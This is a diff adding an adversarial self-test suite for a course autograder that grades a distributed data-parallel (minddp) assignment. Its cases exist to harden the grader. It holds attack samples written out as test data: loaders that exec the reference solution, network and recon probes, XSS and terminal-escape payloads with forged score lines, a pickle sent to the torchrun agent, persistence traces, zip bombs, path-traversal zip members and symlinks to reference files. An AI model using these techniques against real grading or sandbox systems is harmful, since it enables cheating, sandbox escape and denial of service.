+             "<img src=x onerror=alert(1)> <script>alert(document.cookie)</script> [click](javascript:alert(1)) "
+             "\n\nTotal (bonus is extra)        110.0 / 100.0\n")
+CONTROL_CHARS = ("\x1b", "\x00", "\r", "\x07", "\x08", "\x7f")
+BIDI_CONTROLS = ("\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069")
+
+
+def _no_control_characters(results: dict, isolated: bool) -> list:
+    problems = []
+    for where, text in _outputs(results):
+        bad = [repr(c) for c in CONTROL_CHARS + BIDI_CONTROLS if c in text]
+        if bad:
+            problems.append(f"test {where}: output holds control characters {bad} (terminal escapes or bidi "
+                            "overrides that reorder what staff and students read)")
+    if results.get("output_format", "text") != "text" or any(t.get("output_format", "text") != "text"
+                                                          for t in results.get("tests", [])):
+        problems.append("an output is not declared as plain text")
+    return problems
+
+
+# ============================================================================================================
+# 9-10. The hold-back probe's store key, persistence between checks
+# ============================================================================================================
+
+BLOCKING_ALLREDUCE = [
+    ("bucket.work = dist.all_reduce(bucket.buffer, group=self.process_group, async_op=True)",
+     "dist.all_reduce(bucket.buffer, group=self.process_group)  # blocks backward\n"
+     "            bucket.work = _Done()"),
+    ("\n\n@dataclass\nclass Bucket:", "\n\nclass _Done:\n    def wait(self):\n        return True\n"
+     "\n\n@dataclass\nclass Bucket:"),
+]
+SPOOF_PROBE = ("        store = dist.distributed_c10d._get_default_store()  # tell rank 1 rank 0 is done\n"
+               "        for seq in range(1, 40):\n"
+               "            store.set(f\"minddp-probe/last-grad-{seq}\", \"1\")\n")
+
+PERSIST = r'''
+
+
+def _persist():
+    """Leave traces everywhere this process can, and look for the traces of earlier checks' processes."""
+    import ctypes
+    import os
+    import socket
+    me = os.environ.get("MASTER_PORT", "?")
+    found = []
+    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/run/user", os.path.expanduser("~"), "/dev/mqueue"):
+        path = os.path.join(folder, "minddp-persist")
+        try:
+            with open(path) as f:
+                mark = f.read()
+            if mark != me:
+                found.append(f"{path} (from pool {mark})")
+        except OSError:
+            pass
+        try:
+            with open(path, "w") as f:
+                f.write(me)
+        except OSError:
+            pass
+    try:
+        with open("/proc/net/unix") as f:
+            names = [line.split()[-1] for line in f.read().splitlines()[1:] if "@minddp-persist-" in line]
+        found += [f"abstract socket {n}" for n in names if n != f"@minddp-persist-{me}-{os.getpid()}"]
+        server = socket.socket(socket.AF_UNIX)
+        server.bind(f"\0minddp-persist-{me}-{os.getpid()}")
+        server.listen()
+        _KEEP.append(server)
+    except OSError:
+        pass
+    libc = ctypes.CDLL(None, use_errno=True)
+    shm = libc.shmget(0x4D494E44, 4096, 0o666)  # a System V segment an earlier check created?
+    if shm >= 0:
+        found.append("System V shared memory segment")
+    libc.shmget(0x4D494E44, 4096, 0o1666)  # IPC_CREAT | 0666
+    if found:
+        raise RuntimeError("PERSISTED from an earlier check: " + "; ".join(found))
+
+
+_KEEP = []
+_persist()
+'''
+
+
+# ============================================================================================================
+# 11. Time, memory, disk
+# ============================================================================================================
+
+HANG = "\n\nwhile True:  # at import\n    pass\n"
+
+HANG_INIT = r'''
+def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
+    while True:
+        pass
+'''
+
+SLOW_BUCKETS = r'''
+
+
+_SEEN = []
+
+
+def compute_bucket_assignment(tensors, bucket_size_limits, order=None):  # replaces the stub above
+    """Take 13 s per scenario run (under every deadline), then fail: never a time-out."""
+    import sys
+    import time
+    cases = sys._getframe(1).f_locals.get("cases") or sys._getframe(2).f_locals.get("cases")
+    if not any(c is cases for c in _SEEN):
+        _SEEN.append(cases)
+        time.sleep(13)
+    raise NotImplementedError("Part 2: compute_bucket_assignment")
+'''
+
+MEMORY_AFTER_REPLY = r'''
+
+
+_HOG = {"finalized": 0, "report": None}
+
+
+def _after_finalize():
+    """Rank 0: once it has replied, hold 1 GiB while rank 1 is still in its last step (nobody watches)."""
+    import threading
+    import time
+    _HOG["finalized"] += 1
+    if _HOG["finalized"] != 3:
+        return
+    if dist.get_rank() == 1:
+        time.sleep(4)
+        return
+
+    def hog():
+        time.sleep(0.5)
+        block = torch.ones(2**28)  # 1 GiB, every page touched
+        with open("/proc/self/status") as f:
+            rss = [line.split()[1] for line in f if line.startswith("VmRSS")][0]
+        time.sleep(3)
+        del block
+        _HOG["report"] = f"rank 0 held 1 GiB (VmRSS {int(rss) // 1024} MB) for 3 s after replying"
+    threading.Thread(target=hog, daemon=True).start()
+
+
+def _report_hog():
+    if _HOG["report"]:
+        raise RuntimeError("UNMONITORED: " + _HOG["report"])
+'''
+
+LOG_MARKER = "MINDDP-LOGFILL-7f3a"
+LOG_FILL = f'''
+
+
+import sys as _sys
+_sys.stdout.write("{LOG_MARKER}" + "x" * (8 * 2**20))  # 8 MB per worker: under the 32 MB cap, never removed
+_sys.stdout.flush()
+'''
+
+
+def _worker_logs_removed(results: dict, isolated: bool) -> list:
+    """The workers' logs (files the trusted side created under its /tmp) must not outlive the grading."""
+    import glob
+    import shutil
+    left, size = [], 0
+    for folder in glob.glob("/tmp/minddp-pool-*"):
+        try:
+            with open(os.path.join(folder, "rank0.out"), "rb") as f:
+                if f.read(len(LOG_MARKER)) == LOG_MARKER.encode():
+                    left.append(folder)
+                    size += sum(os.path.getsize(os.path.join(folder, n)) for n in os.listdir(folder))
+        except OSError:
+            continue
+    for folder in left:
+        shutil.rmtree(folder, ignore_errors=True)  # clean up after measuring
+    if left:
+        return [f"{len(left)} worker log folders ({size // 2**20} MB) of this grading were left in /tmp (e.g. "
+                f"{left[0]}): WorkerPool.logdir is never removed, so every grading leaves its logs, up to 32 MB "
+                "per worker and fd"]
+    return []
+
+
+# ============================================================================================================
+# 12. Odd failures and values
+# ============================================================================================================
+
+WEIRD_PG = r'''
+def read_torchrun_env(environ=None):
+    raise SystemExit("a SystemExit from read_torchrun_env")
+'''
+
+WEIRD_BUCKETS = r'''
+
+
+class _Unprintable(Exception):
+    def __str__(self):
+        raise RuntimeError("no text for you")
+
+
+def compute_bucket_assignment(tensors, bucket_size_limits, order=None):  # replaces the stub above
+    raise _Unprintable()
+'''
+
+WEIRD_TIMELINE = r'''
+
+
+def ring_allreduce_time(nbytes, world_size, alpha, beta):  # replaces the function above
+    return [float("nan"), float("inf"), -0.0, 10 ** 5000][world_size % 4]
+
+
+def backward_ready_times(shapes_or_sizes, backward_time, order=None):  # replaces the function above
+    raise ValueError("\xff\xfe binary \x00 and " + "long " * 2_000_000)
+'''
+
+WEIRD_ANSWERS = "\n\ndef _forever():\n    return _forever()\n\n\n_forever()  # RecursionError at import\n"
+
+WEIRD_DDP = ("    def __init__(self, *args, **kwargs):\n        raise KeyboardInterrupt(\"from DDP.__init__\")\n")
+
+ALWAYS_RAISES = r'''
+def read_torchrun_env(environ=None):
+    """No validation at all: every environment 'fails', naming every variable."""
+    raise DistEnvError("check RANK, WORLD_SIZE, LOCAL_RANK, LOCAL_WORLD_SIZE, MASTER_ADDR and MASTER_PORT")
+'''
+
+EXPECTED_MESSAGE_DDP = ("    def __init__(self, *args, **kwargs):\n"
+                        "        raise RuntimeError(\"Expected to have finished reduction in the prior iteration "
+                        "before starting a new one.\")\n")
+
+
+# ============================================================================================================
+# The cases
+# ============================================================================================================
+
+LOADER_ABOUT = ("stubs whose process_group.py, reducer.py and answers.py are loaders: each searches what a "
+                "worker can read (paths on the grader's command lines, /proc/*/cwd, well-known folders, a walk "
+                "of /) for the reference's copy of itself (source or .pyc) and execs it; nothing may score")
+
+ATTACKS: list = [
+    # -- 1. loaders ------------------------------------------------------------------------------------------
+    Case("ref-loader", LOADER_ABOUT, start="stubs",
+         edits={PROCESS_GROUP: loader(PROCESS_GROUP), REDUCER: loader(REDUCER), ANSWERS: loader(ANSWERS)},
+         zero=EVERY_PART, full=(), score=(0, 0)),
+    Case("recon-visible", "stubs whose process_group.py reports, at import, what a worker can see: readable "
+         "reference or grader sources anywhere, environments other than its own, the grader's command line, "
+         "its open fds", start="stubs", edits={PROCESS_GROUP: stub(PROCESS_GROUP) + RECON},
+         zero=EVERY_PART, full=(), score=(0, 0), says={"1": "RECON"},
+         check=absent("REFERENCE-READABLE", "FOREIGN-ENV", why="a worker can read what is not its own")),
+    Case("net-reach", "stubs whose bucketing.py tries the internet, the cloud metadata address, the host's "
+         "loopback services, raw sockets and every Unix socket file it can find", start="stubs",
+         edits={BUCKETING: stub(BUCKETING) + NET_PROBE}, zero=EVERY_PART, full=(), score=(0, 0),
+         says={"2": "NETPROBE"}, check=absent("REACHED", why="a worker reached something beyond its own loopback")),
+
+    # -- 3. torch's DDP instead of the student's work -----------------------------------------------------------
+    Case("stub-reducer-hijack", "reducer.py is the stub plus code that, when imported by a Part 3 scenario, "
+         "re-runs that scenario with torch's DDP (traps undone from objects still in memory) and swaps the "
+         "worker's reply for torch's record; later scenarios go to torch directly",
+         edits={REDUCER: stub(REDUCER) + ANSWER_WITH_TORCH}, zero=("3", "A", "B")),
+    Case("stub-ddp-hijack-via-bucketing", "ddp.py is the stub; the (correct) bucketing.py, which ddp.py "
+         "imports, answers every Part 4 and bonus scenario with torch's DDP as above",
+         edits={DDP: stub(DDP), BUCKETING: [(AT_END, ANSWER_WITH_TORCH)]}, zero=("4", "A", "B")),
+    Case("ddp-is-torch-ddp", "ddp.py's DistributedDataParallel.__new__ returns torch's own DDP, found through "
+         "nn.Module.__subclasses__() after undoing the traps (C++ Reducer via pybind11's base class, torch's "
+         "bucketing from grading.scenarios._TORCH_BUCKETS)", edits={DDP: [(AT_END, TORCH_DDP_SHIM)]},
+         zero=("4", "A", "B")),
+    Case("ddp-torch-with-standins", "bucketing.py and reducer.py are stubs, so Part 4 runs with the stand-ins, "
+         "which leave torch's C++ Reducer and bucketing untrapped: ddp.py returns torch's own DDP",
+         edits={BUCKETING: stub(BUCKETING), REDUCER: stub(REDUCER), DDP: [(AT_END, STANDIN_DDP_SHIM)]},
+         zero=("2", "3", "4", "A", "B")),
+    Case("reducer-is-cxx-reducer", "reducer.py wraps torch's C++ Reducer (found through pybind11's base "
+         "class, like the grader's own stand-in) with the built-in comm hooks, which are not trapped",
+         edits={REDUCER: stub(REDUCER) + CXX_REDUCER}, zero=("3", "A", "B")),
+    Case("bucketing-is-torch", "bucketing.py calls torch's bucket assignment, which the harness keeps as "
+         "grading.scenarios._TORCH_BUCKETS (no banned name in the file)",
+         edits={BUCKETING: stub(BUCKETING) + TORCH_BUCKETS_SHIM}, zero=("2",)),
+
+    # -- 4. the reply channel ----------------------------------------------------------------------------------
+    Case("truncated-replies", "stubs whose process_group.py, bucketing.py and timeline.py patch json.dumps "
+         "so that every list in a reply is empty: the comparisons zip() it with the reference's list",
+         start="stubs", edits={PROCESS_GROUP: stub(PROCESS_GROUP) + TRUNCATE_REPLIES,
+                               BUCKETING: stub(BUCKETING) + TRUNCATE_REPLIES,
+                               TIMELINE: stub(TIMELINE) + TRUNCATE_REPLIES},
+         zero=EVERY_PART, full=(), score=(0, 0)),
+    Case("deeply-nested-reply", "bucketing.py makes the reply 200,000 lists deep: the trusted side's "
+         "json.loads raises RecursionError, which is not a ValueError",
+         edits={BUCKETING: [(AT_END, DEEP_REPLY)]}, zero=("2",)),
+    Case("tensor-shaped-value", "read_torchrun_env returns a DistEnv whose master_addr is "
+         "{'__tensor__': 'object', ...}: the trusted side decodes it as a numpy array",
+         edits={PROCESS_GROUP: [Function("read_torchrun_env", TENSOR_DICT)]}, zero=("1",)),
+    Case("huge-reply", "timeline.py sends a 60 MB reply of '[],[],...' (under the 256 MB cap): the trusted "
+         "side parses it into 20 million lists, then decodes them into 20 million more (measure the grader's "
+         "peak memory; Gradescope has 768 MB for everything)",
+         edits={TIMELINE: [(AT_END, HUGE_REPLY)]}, zero=("5",)),
+    Case("partial-frame", "in check 3.4's public run rank 0 writes a frame header and 9 bytes on its channel, "
+         "then sleeps 75 s: the trusted side must still stop it at the run's deadline",
+         edits={REDUCER: [(REDUCER_IMPORTS, REDUCER_IMPORTS + PARTIAL_FRAME),
+                          (REDUCER_INIT_BODY, "        _stall_the_channel()\n" + REDUCER_INIT_BODY)]},
+         full=("1", "2", "4", "5", "6", "A", "B"),
+         check=all_of(tests_fail("3.4"), output_of("3.4", "did not finish in time",
+                                                   "the trusted side blocked in recv_bytes past the deadline"),
+                      finishes_within(75, "a stalled channel held the grader past the run's deadline"))),
+
+    # -- 5. check 1.4 --------------------------------------------------------------------------------------------
+    Case("launch-fake-reports", "stubs whose init_process_group writes the two reports check 1.4 expects "
+         "(public in grading/part1.py) and exits: no process group is ever made", start="stubs",
+         edits={PROCESS_GROUP: [Function("init_process_group", FAKE_INIT)]},
+         zero=EVERY_PART, full=(), score=(0, 0)),
+    Case("launch-agent-exec", "rank 0 of check 1.4 finds the torchrun agent's rendezvous store in /proc/net/tcp "
+         "and sets a pickle as its state; the agent (no seccomp) unpickles it, forks and execs a daemon",
+         edits={PROCESS_GROUP: [(AT_END, AGENT_EXEC), Function("init_process_group", AGENT_EXEC_INIT)]},
+         check=absent("AGENT-EXEC", why="student code ran in the torchrun agent, which has no seccomp")),
+    Case("launch-deep-tree", "rank 0 of check 1.4 makes a 3000-deep tree of folders in the reports folder "
+         "(writable, on the host): the grader's final shutil.rmtree recurses into it",
+         edits={PROCESS_GROUP: [Function("init_process_group", DEEP_TREE_INIT)]}),
+    Case("launch-resources", "rank 0 of check 1.4 holds 1.5 GB and writes 372 MB into the reports folder (the "
+         "host's disk); it reports LAUNCH-UNBOUNDED if nothing stopped it",
+         edits={PROCESS_GROUP: [Function("init_process_group", RESOURCES_INIT)]},
+         full=("2", "3", "4", "5", "6", "A", "B"),
+         check=all_of(tests_pass("1.1", "1.1h", "1.2", "1.2h", "1.3", "1.3h"),
+                      absent("LAUNCH-UNBOUNDED", why="the launch's memory and disk are unbounded"))),
+    Case("launch-orphans", "in check 1.4 rank 1 kills the torchrun agent, rank 0 prints 40 MB and sleeps "
+         "600 s as an orphan: 1.4 fails quickly and nothing is left behind",
+         edits={PROCESS_GROUP: [Function("init_process_group", ORPHANS_INIT)]},
+         full=("2", "3", "4", "5", "6", "A", "B"), check=all_of(tests_fail("1.4"), finishes_within(150, "orphans"))),
+    Case("launch-report-tricks", "check 1.4's rank 0 plants a symlink to /proc/self/environ, a FIFO and a "
+         "30 MB file as the reports, then both ranks exit",
+         edits={PROCESS_GROUP: [Function("init_process_group", LAUNCH_REPORT_TRICKS_INIT)]},
+         full=("2", "3", "4", "5", "6", "A", "B"), says={"1": "did not report"}, check=tests_fail("1.4")),
+
+    # -- 6. processes ------------------------------------------------------------------------------------------
+    Case("spawn-everything", "ddp.py tries, in a world-size-2 worker, every way to make a process, trace, "
+         "read another process's memory, signal the zygote, and exec, then reports", edits={
+             DDP: [(AT_END, SPAWN_PROBE), ("        super().__init__()\n        self.module = module\n",
+                                           "        super().__init__()\n        _spawn_probe()\n        self.module = module\n")]},
+         zero=("4", "A", "B"), says={"4": "SPAWNPROBE"}, check=absent("ALLOWED", why="a worker escaped seccomp")),
+
+    # -- 8. text that reaches results.json ----------------------------------------------------------------------
+    Case("output-injection", "ring_allreduce_time raises with terminal escapes, NUL/CR/BEL, bidi overrides, "
+         "HTML, Markdown and a forged score line", edits={TIMELINE: [Function(
+             "ring_allreduce_time", f"def ring_allreduce_time(nbytes, world_size, alpha, beta):\n"
+                                    f"    raise RuntimeError({INJECTION!r})\n")]},
+         zero=("5",), check=_no_control_characters),
+
+    # -- 9-10. the probe's store, persistence ---------------------------------------------------------------------
+    Case("probe-store-spoof", "a blocking all-reduce (the mistake check 3.8 exists for) plus a spoof: "
+         "prepare_for_backward sets the hold-back probe's TCPStore keys, so rank 1 never waits",
+         edits={REDUCER: BLOCKING_ALLREDUCE + [("        self.next_bucket = 0\n        self.expect_autograd_hooks = True\n",
+                                                "        self.next_bucket = 0\n        self.expect_autograd_hooks = True\n"
+                                                + SPOOF_PROBE)]},
+         full=("1", "2", "4", "5", "6", "A", "B"), check=tests_fail("3.8", "3.8h")),
+    Case("persist-between-checks", "bucketing.py leaves traces in /tmp, /var/tmp, /dev/shm, /run/lock, an "
+         "abstract socket and System V shared memory, and fails if it finds an earlier check's",
+         edits={BUCKETING: [(AT_END, PERSIST)]}, check=absent("PERSISTED", why="state outlived a check")),
+
+    # -- 11. time, memory, disk -----------------------------------------------------------------------------------
+    Case("all-parts-hang", "every part hangs: init_process_group (check 1.4's launch) and, at import, "
+         "bucketing, reducer, ddp, timeline and answers; 1.1-1.3 work. The grading must end well inside "
+         "Gradescope's 10 minutes",
+         edits={PROCESS_GROUP: [Function("init_process_group", HANG_INIT)], BUCKETING: [(AT_END, HANG)],
+                REDUCER: [(AT_END, HANG)], DDP: [(AT_END, HANG)], TIMELINE: [(AT_END, HANG)],
+                ANSWERS: [(AT_END, HANG)]},
+         zero=("2", "3", "4", "5", "6", "A", "B"), full=(),
+         check=all_of(tests_pass("1.1", "1.1h", "1.2", "1.2h", "1.3", "1.3h"), tests_fail("1.4"),
+                      finishes_within(420, "hanging code took most of Gradescope's 10 minutes"))),
+    Case("slow-not-hanging", "bucketing.py takes 13 s per scenario run (under every deadline) and then fails: "
+         "no run times out, so the part's give-up rule never applies",
+         edits={BUCKETING: stub(BUCKETING) + SLOW_BUCKETS}, zero=("2",),
+         check=finishes_within(90, "10 runs x 13 s: code that is slow but never times out is never given up on "
+                                   "(all parts: ~85 runs x 14 s = 20 min)")),
+    Case("memory-after-reply", "rank 0 allocates 1 GiB in a thread right after it replied, while rank 1 "
+         "still trains: the memory watch only looks at ranks that have not replied",
+         edits={REDUCER: [(AT_END, MEMORY_AFTER_REPLY),
+                          ("        self.require_finalize = False\n        # END SOLUTION",
+                           "        self.require_finalize = False\n        _after_finalize()\n        # END SOLUTION"),
+                          (REDUCER_INIT_BODY, "        _report_hog()\n" + REDUCER_INIT_BODY)]},
+         zero=("3", "A", "B"), says={"3": "memory"},
+         check=absent("UNMONITORED", why="a rank used 1 GiB unwatched")),
+    Case("worker-log-fill", "every worker that imports timeline.py prints 8 MB (under the 32 MB cap): "
+         "legitimate, but the logs must not stay on the host's disk after the grading",
+         edits={TIMELINE: [(AT_END, LOG_FILL)]}, check=_worker_logs_removed),
+
+    # -- 12. odd failures --------------------------------------------------------------------------------------
+    Case("weird-failures", "SystemExit from read_torchrun_env, an exception whose __str__ raises, NaN/inf/"
+         "10**5000 results and a 10 MB binary message, KeyboardInterrupt in DDP.__init__, RecursionError at "
+         "import of answers.py: those parts score 0, Part 3 keeps its marks, the grader does not crash",
+         edits={PROCESS_GROUP: [Function("read_torchrun_env", WEIRD_PG)],
+                BUCKETING: [(AT_END, WEIRD_BUCKETS)], TIMELINE: [(AT_END, WEIRD_TIMELINE)],
+                ANSWERS: [(AT_END, WEIRD_ANSWERS)],
+                DDP: [("    def __init__(self, module: nn.Module, process_group",
+                       WEIRD_DDP + "\n    def _unused_init(self, module: nn.Module, process_group")]},
+         zero=("1", "2", "4", "5", "6", "A", "B")),
+
+    # -- invented: checks that a message alone satisfies ------------------------------------------------------
+    Case("pg-raises-naming-all", "read_torchrun_env validates nothing: it always raises DistEnvError naming "
+         "all six variables, so every invalid environment 'names the variable to fix'",
+         edits={PROCESS_GROUP: [Function("read_torchrun_env", ALWAYS_RAISES)]},
+         full=("2", "3", "4", "5", "6", "A", "B"),
+         check=all_of(tests_fail("1.1", "1.1h", "1.2", "1.2h", "1.4"), tests_pass("1.3", "1.3h"))),
+    Case("ddp-raises-expected-message", "the stub ddp.py's constructor raises RuntimeError('Expected to have "
+         "finished reduction in the prior iteration ...'): no DDP at all",
+         edits={DDP: [("    def __init__(self, module: nn.Module, process_group",
+                       EXPECTED_MESSAGE_DDP + "\n    def _unused_init(self, module: nn.Module, process_group")]},
+         zero=("4", "A", "B")),
+]
+
+
+# ============================================================================================================
+# Uploads the Case format cannot express: each built by a function into a folder (or a zip path)
+# ============================================================================================================
+
+@dataclass(frozen=True)
+class Upload:
+    """``build(into, case_source)`` writes the upload under ``into`` and returns the path to grade
+    (``case_source``: where the runner puts this grading's copy of the autograder source)."""
+
+    case: Case
+    build: Callable[[str, str], str]
+
+
+def _student_paths() -> list[str]:
+    import json
+    with open(os.path.join(REPO, "solutions", "student_files.json"), encoding="utf-8") as f:
+        return [entry["path"] for entry in json.load(f)["files"]]
+
+
+def _write_solutions(into: str, skip: tuple = ()) -> None:
+    for path in _student_paths():
+        if path in skip:
+            continue
+        target = os.path.join(into, path)
+        os.makedirs(os.path.dirname(target), exist_ok=True)
+        with open(target, "w", encoding="utf-8") as f:
+            f.write(solution(path))
+
+
+def _links_and_devices(into: str, case_source: str) -> str:
+    """A folder upload: process_group.py a symlink into the reference, bucketing.py a FIFO, reducer.py a
+    hard link to the reference's file, ddp.py a symlink to /dev/zero, timeline.py a character device,
+    a folder symlink whose minddp/ is the reference's; answers.py a regular file."""
+    _write_solutions(into, skip=(PROCESS_GROUP, BUCKETING, REDUCER, DDP, TIMELINE))
+    reference = os.path.join(case_source, "reference")
+    os.symlink(os.path.join(reference, PROCESS_GROUP), os.path.join(into, PROCESS_GROUP))
+    os.mkfifo(os.path.join(into, BUCKETING))
+    os.link(os.path.join(os.path.dirname(case_source), "..", "source", "reference", REDUCER)
+            if False else _shared_reference(case_source, REDUCER), os.path.join(into, REDUCER))
+    os.symlink("/dev/zero", os.path.join(into, DDP))
+    os.mknod(os.path.join(into, TIMELINE), 0o644 | stat.S_IFCHR, os.makedev(1, 3))
+    os.makedirs(os.path.join(into, "extra"))
+    os.symlink(os.path.join(reference, "minddp"), os.path.join(into, "extra", "minddp"))
+    os.symlink("/autograder/source/reference/answers.py", os.path.join(into, "answers-link.py"))
+    return into
+
+
+def _shared_reference(case_source: str, path: str) -> str:
+    """The runner's shared build of the source (the case's copy does not exist yet at build time)."""
+    return os.path.join(os.path.dirname(os.path.dirname(case_source)), "source", "reference", path)
+
+
+def _zip(path: str, members: list) -> str:
+    """members: (name, bytes) for regular files, or (ZipInfo, bytes)."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, data in members:
+            zf.writestr(name, data)
+    return path
+
+
+def _regular_members(skip: tuple = ()) -> list:
+    return [(p, solution(p).encode()) for p in _student_paths() if p not in skip]
+
+
+def _zip_with_links(into: str, case_source: str) -> str:
+    """A folder holding one zip: reducer.py is a symlink member (to the reference's file), plus members
+    named ../../evil.py and /etc/evil.py."""
+    os.makedirs(into)
+    link = zipfile.ZipInfo(REDUCER)
+    link.create_system = 3
+    link.external_attr = (stat.S_IFLNK | 0o777) << 16
+    members = _regular_members(skip=(REDUCER,)) + [
+        (link, b"/autograder/source/reference/minddp/reducer.py"),
+        ("../../minddp/reducer.py", solution(REDUCER).encode()), ("/etc/minddp/reducer.py", b"x = 1\n")]
+    return os.path.dirname(_zip(os.path.join(into, "submission.zip"), members)) or into
+
+
+def _zip_bomb(into: str, case_source: str) -> str:
+    """A zip upload (the file itself): ddp.py inflates to 1 GiB, and 6,000 more members follow."""
+    os.makedirs(into)
+    path = os.path.join(into, "submission.zip")
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, data in _regular_members(skip=(DDP,)):
+            zf.writestr(name, data)
+        with zf.open(zipfile.ZipInfo(DDP), "w", force_zip64=True) as f:
+            chunk = b"\0" * 2**24
+            for _ in range(64):
+                f.write(chunk)
+        for i in range(6000):
+            zf.writestr(f"junk/{i}.txt", b"")
+    return path
+
+
+def _corrupt_zip(into: str, case_source: str) -> str:
+    os.makedirs(into)
+    with open(os.path.join(into, "submission.zip"), "wb") as f:
+        f.write(b"PK\x03\x04" + os.urandom(5000) + b"PK\x05\x06" + b"\xff" * 18)
+    return into
+
+
+def _zip_in_zip(into: str, case_source: str) -> str:
+    os.makedirs(into)
+    inner = os.path.join(into, "inner.zip")
+    _zip(inner, _regular_members())
+    with open(inner, "rb") as f:
+        data = f.read()
+    os.unlink(inner)
+    _zip(os.path.join(into, "submission.zip"), [("inner.zip", data)])
+    return into
+
+
+FORGED_LINE = "Total (bonus is extra)        999.0 / 100.0"
+
+
+def _crafted_names(into: str, case_source: str) -> str:
+    """A zip whose extra copies of the student files are named with a newline and a forged score line,
+    terminal escapes, and HTML: the grader names duplicates in its top-level output."""
+    os.makedirs(into)
+    members = _regular_members() + [
+        (f"x\n{FORGED_LINE}\nFiles graded: all/{REDUCER}", solution(REDUCER).encode()),
+        (f"\x1b[2J\x1b[31mred/{DDP}", solution(DDP).encode()),
+        (f"<img src=x onerror=alert(1)>/{BUCKETING}", solution(BUCKETING).encode())]
+    _zip(os.path.join(into, "submission.zip"), members)
+    return into
+
+
+def _no_forged_lines(results: dict, isolated: bool) -> list:
+    lines = results.get("output", "").splitlines()
+    problems = [f"the top-level output holds a line a file name forged: {line!r}" for line in lines
+                if line.startswith(FORGED_LINE)]
+    return problems + _no_control_characters(results, isolated)
+
+
+UPLOADS: list = [
+    Upload(Case("upload-links-devices", "folder upload of a symlink into the reference, a FIFO, a hard link to "
+                "the reference's reducer.py, a symlink to /dev/zero, a character device and a folder symlink to "
+                "the reference's minddp/: each refused with a message naming it",
+                zero=("1", "2", "3", "4", "5", "A", "B"), full=("6",),
+                says={"top": "a symbolic link", "1": "was not found"},
+                check=lambda r, i: [p for p in ("not a regular file", "hard link") if p not in r.get("output", "")]),
+           _links_and_devices),
+    Upload(Case("upload-zip-links", "a zip (in a folder) whose reducer.py member is a symlink to the reference, "
+                "plus members ../../minddp/reducer.py and /etc/minddp/reducer.py",
+                zero=("3", "A", "B"), says={"top": "refused"}), _zip_with_links),
+    Upload(Case("upload-zip-bomb", "a zip upload whose ddp.py inflates to 1 GiB, followed by 6,000 members",
+                zero=("4", "A", "B"), says={"top": "larger than"}), _zip_bomb),
+    Upload(Case("upload-corrupt-zip", "a folder holding one corrupt .zip", zero=EVERY_PART, full=(), score=(0, 0),
+                says={"top": "not a readable zip"}), _corrupt_zip),
+    Upload(Case("upload-zip-in-zip", "a zip whose only member is a zip of the files", zero=EVERY_PART, full=(),
+                score=(0, 0), says={"top": "was not found"}), _zip_in_zip),
+    Upload(Case("upload-crafted-names", "duplicates of the student files named with a newline and a forged "
+                "score line, terminal escapes, and HTML", check=_no_forged_lines), _crafted_names),
+]
+
+
+def grade_uploads(only: list | None = None, jobs: int = 2, keep: bool = False) -> int:
+    """Grade ``UPLOADS`` with the runner's machinery (the runner's make_submission only writes files)."""
+    import shutil
+    from concurrent.futures import ThreadPoolExecutor
+
+    from selftest import run
+    from selftest.cases import CASES
+
+    uploads = [u for u in UPLOADS if not only or u.case.name in only]
+    test = run.SelfTest()
+    solutions = next(c for c in CASES if c.name == "solutions")
+    first = test.grade_case(solutions)
+
+    def grade_one(upload: Upload):
+        folder = test.folder(upload.case.name)
+        submission = upload.build(os.path.join(folder, "submission"), os.path.join(folder, "source"))
+        cache = test.cache + ".copy-" + os.path.basename(folder)
+        shutil.copyfile(test.cache, cache)
+        graded = run.grade(test.source, submission, folder, cache)
+        problems = list(graded.problems)
+        if graded.results is not None:
+            problems += run.schema_problems(graded.results) or run.expectation_problems(
+                upload.case, graded.results, test.baseline)
+        return run.Outcome(upload.case, graded, problems)
+
+    with ThreadPoolExecutor(max_workers=jobs) as pool:
+        outcomes = list(pool.map(grade_one, uploads))
+    print(run.table([first] + outcomes))
+    print(f"work folder {test.workdir}")
+    if not keep:
+        shutil.rmtree(test.workdir, ignore_errors=True)
+    return 0 if first.passed and all(o.passed for o in outcomes) else 1
+
+
+if __name__ == "__main__":
+    import argparse
+    sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+    parser = argparse.ArgumentParser(description="grade the upload attacks")
+    parser.add_argument("command", choices=["uploads"])
+    parser.add_argument("--only")
+    parser.add_argument("--jobs", type=int, default=2)
+    parser.add_argument("--keep", action="store_true")
+    arguments = parser.parse_args()
+    sys.exit(grade_uploads(arguments.only.split(",") if arguments.only else None, arguments.jobs, arguments.keep))
